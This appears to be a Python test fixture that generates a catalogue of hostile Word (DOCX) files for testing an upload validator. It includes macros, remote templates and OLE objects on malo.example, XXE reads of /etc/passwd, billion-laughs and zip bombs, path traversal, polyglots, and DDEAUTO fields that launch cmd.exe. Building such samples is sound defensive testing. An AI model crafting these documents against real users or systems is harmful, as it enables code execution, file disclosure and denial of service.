"""DOCX: hostile ones."""

import io
import struct
import zipfile
from collections.abc import Callable

from portal.muestras import comprimir, docx, partes_docx, pdf
from tests.archivos.base import MIB, Hostil
from tests.archivos.ole import compuesto

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_RELS = "word/_rels/document.xml.rels"


def _docx(**cambios: bytes) -> Callable[[], bytes]:
    return lambda: comprimir({**partes_docx(), **{k.replace("__", "/"): v for k, v in cambios.items()}})


def con_partes(partes: dict[str, bytes]) -> Callable[[], bytes]:
    return lambda: comprimir({**partes_docx(), **partes})


def con_relacion(tipo: str, destino: str, modo: str = ' TargetMode="External"') -> Callable[[], bytes]:
    """A DOCX whose text relates to `destino`."""
    xml = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_R}{tipo}" Target="{destino}"{modo}/></Relationships>'
    )
    return con_partes({_RELS: xml.encode()})


def _cuerpo(interior: str) -> Callable[[], bytes]:
    original = partes_docx()["word/document.xml"].decode()
    return con_partes({"word/document.xml": original.replace("<w:p>", f"<w:p>{interior}", 1).encode()})


def _tipos(de: str, a: str) -> Callable[[], bytes]:
    return lambda: comprimir(
        {**partes_docx(), "[Content_Types].xml": partes_docx()["[Content_Types].xml"].replace(de.encode(), a.encode())}
    )


def _sin(parte: str) -> Callable[[], bytes]:
    return lambda: comprimir({n: c for n, c in partes_docx().items() if n != parte})


def _zip_con(preparar: Callable[[zipfile.ZipFile], None], metodo: int = zipfile.ZIP_DEFLATED) -> Callable[[], bytes]:
    def hacer() -> bytes:
        salida = io.BytesIO()
        with zipfile.ZipFile(salida, "w", metodo) as paquete:
            for nombre, contenido in partes_docx().items():
                paquete.writestr(nombre, contenido)
            preparar(paquete)
        return salida.getvalue()

    return hacer


def _repetida(paquete: zipfile.ZipFile) -> None:
    otra = zipfile.ZipInfo("word/DOCUMENT.xml")
    paquete.writestr(otra, b"<otro/>")


def _enlace_simbolico(paquete: zipfile.ZipFile) -> None:
    enlace = zipfile.ZipInfo("word/media.xml")
    enlace.external_attr = 0xA1FF << 16
    paquete.writestr(enlace, "/etc/passwd")


def _cifrado() -> bytes:
    datos = bytearray(docx())
    for firma, salto in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        lugar = datos.find(firma)
        while lugar >= 0:
            datos[lugar + salto] |= 1
            lugar = datos.find(firma, lugar + 1)
    return bytes(datos)


def _tamano_mentido() -> bytes:
    """Says 100 bytes, inflates to 100 MB."""
    datos = bytearray(comprimir({**partes_docx(), "word/media/a.png": b"\0" * (100 * MIB)}))
    largo = struct.pack("<I", 100 * MIB)
    while (lugar := datos.find(largo)) >= 0:
        datos[lugar : lugar + 4] = struct.pack("<I", 100)
    return bytes(datos)


def _solapada() -> bytes:
    """Two lines of the index, one content (Fifield)."""
    datos = con_partes({"word/a.xml": b"<a/>", "word/b.xml": b"<a/>"})()
    primero = datos.index(b"word/a.xml") - 30
    segundo = datos.index(b"word/b.xml") - 30
    corte = datos.index(b"PK\x01\x02")
    return datos[:corte] + datos[corte:].replace(
        struct.pack("<I", segundo) + b"word/b", struct.pack("<I", primero) + b"word/b"
    )


_MIL_RISAS = (
    '<!DOCTYPE w [<!ENTITY a "jajaja">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
)  # fmt: skip
_CAMPO = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'

DOCX_HOSTILES: list[Hostil] = [
    ("macros", con_partes({"word/vbaProject.bin": compuesto({"VBA/dir": b"x"})})),
    ("macros-en-mayusculas", con_partes({"word/VBAPROJECT.BIN": b"x"})),
    ("macros-con-otro-nombre", con_relacion("vbaProject", "media/image1.png", "")),
    ("macros-datos", con_partes({"word/vbaData.xml": b"<a/>"})),
    ("docm", _tipos("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
    ("dotm", _tipos("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    ("dotx", _tipos("document.main+xml", "template.main+xml")),
    ("tipo-macro-por-extension", _tipos('<Default Extension="xml"', '<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"')),
    ("plantilla-remota", con_relacion("attachedTemplate", "https://malo.example/x.dotm")),
    ("plantilla-unc", con_relacion("attachedTemplate", "file://\\\\malo\\x.dotm")),
    ("objeto-remoto", con_relacion("oleObject", "https://malo.example/x.html!")),
    ("objeto-mhtml", con_relacion("oleObject", "mhtml:https://malo.example/x!x-usc:https://malo.example/x")),
    ("marco-remoto", con_relacion("frame", "https://malo.example/x")),
    ("subdocumento", con_relacion("subDocument", "https://malo.example/x")),
    ("imagen-remota", con_relacion("image", "https://malo.example/pixel.png")),
    ("imagen-unc", con_relacion("image", "\\\\malo\\x.png")),
    ("enlace-javascript", con_relacion("hyperlink", "javascript:alert(1)")),
    ("enlace-archivo", con_relacion("hyperlink", "file:///c:/windows/system32/calc.exe")),
    ("enlace-unc", con_relacion("hyperlink", "\\\\malo\\x")),
    ("enlace-search-ms", con_relacion("hyperlink", "search-ms:query=x")),
    ("interno-que-es-externo", con_relacion("image", "http://malo.example/x.png", "")),
    ("trozo-html", con_relacion("aFChunk", "trozo.html", "")),
    ("ole-incrustado", con_partes({"word/embeddings/oleObject1.bin": b"x"})),
    ("excel-incrustado", con_partes({"word/embeddings/hoja.xlsx": docx()})),
    ("activex", con_partes({"word/activeX/activeX1.xml": b"<a/>"})),
    ("exe-dentro", con_partes({"word/media/x.exe": b"MZ"})),
    ("js-dentro", con_partes({"word/x.js": b"alert(1)"})),
    ("html-dentro", con_partes({"word/x.html": b"<script>alert(1)</script>"})),
    ("dtd", con_partes({"word/document.xml": b'<!DOCTYPE a SYSTEM "http://malo.example/x.dtd">' + partes_docx()["word/document.xml"][55:]})),
    ("xxe", con_partes({"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'})),
    ("xxe-en-relaciones", con_partes({"_rels/.rels": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + partes_docx()["_rels/.rels"][55:]})),
    ("mil-risas", con_partes({"word/styles.xml": f"{_MIL_RISAS}<w>&i;</w>".encode()})),
    ("mil-risas-en-tipos", con_partes({"[Content_Types].xml": f"{_MIL_RISAS}<w>&i;</w>".encode()})),
    ("dtd-utf16", con_partes({"word/styles.xml": f'<?xml version="1.0" encoding="UTF-16"?>{_MIL_RISAS}<w>&i;</w>'.encode("utf-16")})),
    ("xml-utf7", con_partes({"word/styles.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'})),
    ("xml-roto", con_partes({"word/document.xml": b"<w:document"})),
    ("xml-hondo", con_partes({"word/styles.xml": b"<a>" * 2_000_000})),
    ("bomba", con_partes({"word/media/a.png": b"\0" * (120 * MIB)})),
    ("bomba-de-xml", con_partes({"word/styles.xml": b"<a>" + b" " * (60 * MIB) + b"</a>"})),
    ("bomba-en-relaciones", con_partes({_RELS: b"<a>" + b"<b/>" * (3 * MIB) + b"</a>"})),
    ("bomba-que-miente", _tamano_mentido),
    ("bomba-en-muchas-partes", con_partes({f"word/media/{n}.png": b"\0" * MIB for n in range(150)})),
    ("bomba-solapada", _solapada),
    ("demasiadas-entradas", con_partes({f"word/{n}.xml": b"<a/>" for n in range(5_000)})),
    ("ruta-hacia-arriba", con_partes({"../../x.xml": b"<a/>"})),
    ("ruta-absoluta", con_partes({"/etc/x.xml": b"<a/>"})),
    ("ruta-de-windows", con_partes({"word\\..\\x.xml": b"<a/>"})),
    ("ruta-con-unidad", con_partes({"c:/x.xml": b"<a/>"})),
    ("enlace-simbolico", _zip_con(_enlace_simbolico)),
    ("nombre-repetido", _zip_con(_repetida)),
    ("cifrado", _cifrado),
    ("comentario", _zip_con(lambda p: setattr(p, "comment", b"<script>alert(1)</script>"))),
    ("compresion-rara", _zip_con(lambda p: None, zipfile.ZIP_LZMA)),
    ("compresion-bzip2", _zip_con(lambda p: None, zipfile.ZIP_BZIP2)),
    ("detras-html", lambda: docx() + b"<script>alert(1)</script>"),
    ("detras-pdf", lambda: docx() + pdf()),
    ("delante-exe", lambda: b"MZ" + docx()),
    ("delante-otro-zip", lambda: b"PK\x03\x04" + b"\0" * 60 + docx()),
    ("cortado", lambda: docx()[:-30]),
    ("suma-mala", lambda: docx().replace(b"\x00\x00word/document.xml", b"\x00\x00word/dxcument.xml", 1)),
    ("sin-tipos", _sin("[Content_Types].xml")),
    ("sin-relaciones", _sin("_rels/.rels")),
    ("sin-texto", _sin("word/document.xml")),
    ("texto-que-no-es", con_partes({"word/document.xml": b"<html/>"})),
    ("xlsx", lambda: comprimir({"[Content_Types].xml": partes_docx()["[Content_Types].xml"].replace(b"word/document.xml", b"xl/workbook.xml").replace(b"wordprocessingml.document", b"spreadsheetml.sheet"), "_rels/.rels": partes_docx()["_rels/.rels"].replace(b"word/document", b"xl/workbook"), "xl/workbook.xml": b"<workbook/>"})),
    ("pptx", lambda: comprimir({"[Content_Types].xml": partes_docx()["[Content_Types].xml"].replace(b"wordprocessingml.document", b"presentationml.presentation"), "_rels/.rels": partes_docx()["_rels/.rels"], "word/document.xml": b"<p/>"})),
    ("odt", lambda: comprimir({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>", "META-INF/manifest.xml": b"<a/>"})),
    ("docx-y-odt", con_partes({"mimetype": b"application/vnd.oasis.opendocument.text"})),
    ("jar", lambda: comprimir({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
    ("docx-y-jar", con_partes({"META-INF/MANIFEST.MF": b"Main-Class: A"})),
    ("zip", lambda: comprimir({"a.txt": b"hola"})),
    ("zip-vacio", lambda: b"PK\x05\x06" + b"\0" * 18),
    ("zip-solo-inicio", lambda: b"PK\x03\x04"),
    ("dde", _cuerpo(_CAMPO.format(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    ("dde-partido", _cuerpo(_CAMPO.format(" DDE") + "<w:r><w:instrText>AUTO cmd</w:instrText></w:r>")),
    ("dde-escapado", _cuerpo(_CAMPO.format(" &#68;&#x44;EAUTO cmd"))),
    ("dde-simple", _cuerpo('<w:fldSimple w:instr="DDEAUTO cmd"/>')),
    ("incluir-unc", _cuerpo(_CAMPO.format('INCLUDEPICTURE "\\\\malo\\x.png"'))),
]  # fmt: skip
